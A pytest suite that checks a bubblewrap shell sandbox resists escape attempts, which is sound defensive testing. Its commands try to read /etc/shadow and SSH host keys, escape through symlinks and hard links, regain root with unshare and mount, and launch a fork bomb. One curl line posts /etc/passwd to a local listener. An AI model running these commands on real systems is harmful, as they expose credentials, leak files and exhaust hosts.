"""The escape suite (issue 23 item 4): each class of attempt, made from a real sandboxed `shell`,
must fail, and what it aimed at (a canary file, a listener) must show it saw nothing."""

from __future__ import annotations

import os
import time
import uuid
from collections.abc import Iterator

import pytest

from boxmaker.brokerd.sandbox import SandboxLimits
from tests.support.brokerd.sandbox import CANARY, PYTHON, Rig, make_rig, processes_with
from tests.support.procs import wait_for

LIMITS = SandboxLimits(timeout_ms=10_000, processes=32, output_bytes=16 << 10)


@pytest.fixture
def rig() -> Iterator[Rig]:
    yield from make_rig(LIMITS)


def _untouched(rig: Rig, before: dict[str, bytes], output: str) -> None:
    assert rig.canaries() == before, "a file outside the workspace changed"
    assert CANARY not in output, "the canary was read from inside the sandbox"
    assert rig.nothing_heard() == {}, "a listener outside the sandbox was reached"


def test_absolute_paths_outside_the_workspace_are_not_there(rig: Rig) -> None:
    before = rig.canaries()
    out = rig.run(
        f"cat {rig.outside}/secret.txt; echo pwned > {rig.outside}/secret.txt; "
        f"echo pwned > {rig.outside}/new.txt; echo pwned > {rig.base}/new.txt; ls {rig.base}"
    )
    assert out.count("No such file or directory") + out.count("Directory nonexistent") >= 5, out
    _untouched(rig, before, out)


def test_dot_dot_leads_to_the_sandbox_root_not_the_host(rig: Rig) -> None:
    before = rig.canaries()
    out = rig.run(
        "echo pwned > ../escaped; cd ../..; echo pwned > escaped2; "
        "cat ../outside/secret.txt; ls /workspace/../outside; pwd"
    )
    assert "Read-only file system" in out
    assert not (rig.base / "escaped").exists()
    assert not (rig.base / "escaped2").exists()
    _untouched(rig, before, out)


def test_symlinks_made_inside_point_at_nothing_of_the_host(rig: Rig) -> None:
    before = rig.canaries()
    out = rig.run(
        f"ln -s {rig.outside}/secret.txt link; cat link; echo pwned > link; "
        f"ln -s {rig.outside} dirlink; ls dirlink/; echo pwned > dirlink/new.txt; "
        "ln -s / rootlink; ls rootlink/home rootlink/root"
    )
    assert "No such file or directory" in out
    # The links exist in the workspace (brokerd's file tools must not follow them: issue 22).
    assert os.readlink(rig.workspace / "link") == f"{rig.outside}/secret.txt"
    _untouched(rig, before, out)


def test_a_hard_link_to_a_host_file_cannot_be_made(rig: Rig) -> None:
    before = rig.canaries()
    out = rig.run(f"ln {rig.outside}/secret.txt hard; ln /etc/passwd pw; cat hard")
    assert not (rig.workspace / "hard").exists()
    assert not (rig.workspace / "pw").exists()  # another mount: link(2) says EXDEV
    _untouched(rig, before, out)


def test_the_system_is_read_only(rig: Rig) -> None:
    token = uuid.uuid4().hex
    out = rig.run(
        f"echo x > /usr/bin/{token}; echo x > /etc/{token}; touch /etc/passwd; "
        f"echo x > /{token}; mkdir /{token}; echo x > /dev/{token}"
    )
    assert out.count("Read-only file system") >= 4, out
    assert not os.path.exists(f"/usr/bin/{token}")
    assert not os.path.exists(f"/etc/{token}")
    assert not os.path.exists(f"/{token}")


def test_etc_shadow_and_the_homes_are_absent(rig: Rig) -> None:
    with open("/etc/shadow") as f:
        first = f.readline().strip()
    out = rig.run(
        "cat /etc/shadow /etc/gshadow /etc/sudoers; ls /root /home /run /var /sys; "
        "ls /etc; cat /etc/ssh/ssh_host_ed25519_key"
    )
    assert "/etc/shadow: No such file or directory" in out
    assert first not in out
    assert "shadow" not in out.split("[exit")[0].replace("/etc/shadow:", "").replace(
        "/etc/gshadow:", ""
    )
    for gone in ("/root", "/home", "/run", "/var", "/sys"):
        assert f"cannot access '{gone}'" in out


def _probe(rig: Rig, code: str) -> str:
    (rig.workspace / "probe.py").write_text(code)
    return rig.run(f"{PYTHON} probe.py")


def test_the_broker_and_loopd_sockets_cannot_be_reached(rig: Rig) -> None:
    before = rig.canaries()
    code = "\n".join(
        [
            "import socket",
            f"for p in ['{rig.outside}/broker.sock', '{rig.outside}/loop.sock',",
            "          '/run/boxmaker/broker.sock', '/run/boxmaker/loop.sock']:",
            "    s = socket.socket(socket.AF_UNIX)",
            "    try:",
            "        s.connect(p); s.sendall(b'hello'); print('CONNECTED', p)",
            "    except OSError as e:",
            "        print('refused', p, e.errno)",
        ]
    )
    out = _probe(rig, code)
    assert "CONNECTED" not in out
    assert out.count("refused") == 4
    _untouched(rig, before, out)


def test_another_sessions_log_and_the_grants_file_are_not_found(rig: Rig) -> None:
    before = rig.canaries()
    out = rig.run(
        f"cat {rig.outside}/sessions/other/log.jsonl {rig.outside}/grants.toml; "
        "find / -xdev \\( -name 'log.jsonl' -o -name 'grants.toml' \\) 2>/dev/null; "
        f"grep -rs {CANARY[:12]} / 2>/dev/null | head -3; echo done"
    )
    assert "log.jsonl" in out  # cat's error names it; find finds nothing
    assert CANARY[:12] not in out.replace(f"grep -rs {CANARY[:12]}", "")
    _untouched(rig, before, out)


def _net_probe(rig: Rig) -> str:
    tcp = rig.listeners["tcp"].address
    udp = rig.listeners["udp"].address
    abstract = rig.listeners["abstract"].address
    code = "\n".join(
        [
            "import socket",
            "def tcp(addr):",
            "    s = socket.create_connection(addr, timeout=2); s.sendall(b'leak')",
            "def udp(addr):",
            "    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.sendto(b'leak', addr)",
            "def abstract(name):",
            "    s = socket.socket(socket.AF_UNIX); s.connect(name); s.sendall(b'leak')",
            f"for name, fn, arg in [('tcp', tcp, {tcp!r}), ('udp', udp, {udp!r}),",
            f"                      ('abstract', abstract, {abstract!r}),",
            "                      ('tcp-out', tcp, ('1.1.1.1', 80)),",
            "                      ('dns', socket.getaddrinfo, 'example.com')]:",
            "    try:",
            "        fn(arg, 80) if name == 'dns' else fn(arg)",
            "        print('SENT', name)",
            "    except OSError as e:",
            "        print('failed', name, type(e).__name__)",
            "print(open('/proc/net/dev').read())",
        ]
    )
    return _probe(rig, code)


def test_no_network_tcp_udp_abstract_or_dns(rig: Rig) -> None:
    out = _net_probe(rig)
    for name in ("tcp", "abstract", "tcp-out", "dns"):
        assert f"failed {name} " in out, out
    # UDP to 127.0.0.1 "succeeds" into the sandbox's own lo, where nobody listens: the host's
    # listener must hear nothing. The only device is lo.
    devices = [ln.split(":")[0].strip() for ln in out.splitlines() if ":" in ln and "|" not in ln]
    assert [d for d in devices if d and not d.startswith(("failed", "SENT"))] == ["lo"], out
    time.sleep(0.2)  # a stray datagram would have landed by now; the listener polls every 50 ms
    assert rig.nothing_heard() == {}


def test_curl_to_a_local_listener_fails(rig: Rig) -> None:
    port = rig.listeners["tcp"].address[1]
    out = rig.run(f"curl -sS -m 2 -d @/etc/passwd http://127.0.0.1:{port}/; echo rc=$?")
    assert "rc=0" not in out
    assert rig.nothing_heard() == {}


def test_the_environment_carries_nothing_of_brokerd(
    rig: Rig, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("BOXMAKER_SECRET", CANARY)
    out = rig.run("env | sort")
    names = sorted(line.split("=")[0] for line in out.splitlines() if "=" in line)
    assert names == ["HOME", "LANG", "PATH", "PWD", "TMPDIR"]
    assert CANARY not in out


def test_host_processes_are_invisible_and_unkillable(rig: Rig) -> None:
    me = os.getpid()
    out = rig.run(f"kill -9 {me}; cat /proc/{me}/environ; ls /proc | grep -c '^[0-9]'")
    assert "No such process" in out
    assert "No such file or directory" in out
    count = int(out.splitlines()[-2])
    assert count <= 4, out  # bwrap's init, sh, ls, grep


def test_a_fork_bomb_is_bounded_and_ends(rig: Rig) -> None:
    token = uuid.uuid4().hex
    started = time.monotonic()
    result = rig.sandbox.run(
        # Builtins only after the bomb (a fork may fail while it rages): spin, then count.
        f"# {token}\n(b(){{ b | b & }}; b) 2>/dev/null; i=0; "
        "while [ $i -lt 30000 ]; do i=$((i+1)); done; set -- /proc/[0-9]*; echo $#",
        timeout_ms=4000,
    )
    assert time.monotonic() - started < 8
    assert result.refused is None
    assert not result.timed_out, result.text
    count = int(result.output.split()[-1])
    assert count <= LIMITS.processes + 1, result.output  # the limit holds inside
    wait_for(lambda: not processes_with(token), "the fork bomb's processes to be gone")


def test_a_process_left_running_after_the_timeout_is_killed(rig: Rig) -> None:
    token = uuid.uuid4().hex
    beat = rig.workspace / "beat"
    command = (
        f"# {token}\n(setsid sh -c 'while :; do date +%s%N > beat; sleep 0.02; done' &) ; "
        "nohup sh -c 'sleep 60' >/dev/null 2>&1 & sleep 60"
    )
    started = time.monotonic()
    result = rig.sandbox.run(command, timeout_ms=700)
    assert time.monotonic() - started < 5, "the call waited for the processes it should kill"
    assert result.timed_out
    assert "killed after the timeout" in result.text
    wait_for(lambda: not processes_with(token), "every process of the timed-out call to be gone")
    last = beat.read_text()
    time.sleep(0.3)  # 15 heartbeat periods: any survivor would have written
    assert beat.read_text() == last


def test_a_background_process_dies_when_the_command_ends(rig: Rig) -> None:
    token = uuid.uuid4().hex
    result = rig.sandbox.run(f"# {token}\n(sleep 0.5; echo late > late) & echo started")
    assert result.exit_code == 0
    assert "started" in result.output
    wait_for(lambda: not processes_with(token), "the background process to be gone")
    time.sleep(0.7)
    assert not (rig.workspace / "late").exists()


def test_an_output_flood_is_cut_and_stopped(rig: Rig) -> None:
    token = uuid.uuid4().hex
    started = time.monotonic()
    result = rig.sandbox.run(f"# {token}\nyes flood; echo never")
    assert result.cut
    assert len(result.output.encode()) == LIMITS.output_bytes
    assert "output cut" in result.text
    assert time.monotonic() - started < 5
    wait_for(lambda: not processes_with(token), "the flood's processes to be gone")


def test_file_size_memory_and_tmp_limits_hold() -> None:
    limits = SandboxLimits(file_bytes=1 << 20, memory_bytes=256 << 20, tmp_bytes=1 << 20)
    for rig in make_rig(limits):
        out = rig.run(
            "head -c 3000000 /dev/zero > big; ls -l big | awk '{print \"size\", $5}'; "
            "head -c 800000 /dev/zero > /tmp/a; head -c 800000 /dev/zero > /tmp/b; "
            f"{PYTHON} -c 'x = bytearray(512 << 20)' 2>&1 | tail -1"
        )
        assert "size 1048576" in out
        assert (rig.workspace / "big").stat().st_size == 1 << 20
        assert "No space left on device" in out
        assert "MemoryError" in out


def test_the_sandbox_dies_with_brokerd(rig: Rig) -> None:
    """--die-with-parent: a SIGKILL of the process that started bwrap ends the command too."""
    import subprocess
    import sys

    token = uuid.uuid4().hex
    script = (
        "import sys; from boxmaker.brokerd.sandbox import Sandbox, SandboxLimits\n"
        f"s = Sandbox({str(rig.workspace)!r}, run_as={rig.sandbox.run_as!r})\n"
        f"s.run('# {token}\\nwhile :; do date +%s%N > beat; sleep 0.02; done')\n"
    )
    broker = subprocess.Popen([sys.executable, "-c", script])
    try:
        wait_for(lambda: (rig.workspace / "beat").exists(), "the command's first heartbeat")
        broker.kill()
        broker.wait()
        wait_for(lambda: not processes_with(token), "the sandbox to die with its parent")
        last = (rig.workspace / "beat").read_text()
        time.sleep(0.3)
        assert (rig.workspace / "beat").read_text() == last
    finally:
        broker.kill()
        broker.wait()


def test_no_capability_comes_back_through_a_nested_namespace_or_proc(rig: Rig) -> None:
    """bwrap drops every capability and forbids new user namespaces (--disable-userns): no
    `unshare -r` to become root again, no mount over the system, no way out through /proc."""
    token = uuid.uuid4().hex
    before = rig.canaries()
    out = rig.run(
        "unshare -r sh -c 'echo NESTED'; unshare -rm sh -c 'mount --bind /workspace /usr'; "
        f"mount -t tmpfs none /usr; echo x > /proc/1/root/usr/{token}; "
        "ls /proc/1/root/; grep Cap /proc/self/status"
    )
    assert "NESTED" not in out
    assert not os.path.exists(f"/usr/{token}")
    caps = {
        line.split(":")[0]: int(line.split()[1], 16)
        for line in out.splitlines()
        if line.startswith("Cap")
    }
    assert caps["CapEff"] == 0, out
    assert caps["CapPrm"] == 0, out
    _untouched(rig, before, out)


def test_a_command_that_closes_its_output_still_meets_the_timeout(rig: Rig) -> None:
    token = uuid.uuid4().hex
    started = time.monotonic()
    result = rig.sandbox.run(f"# {token}\nexec >/dev/null 2>&1; sleep 30", timeout_ms=500)
    assert time.monotonic() - started < 5
    assert result.timed_out
    wait_for(lambda: not processes_with(token), "the silent command to be gone")
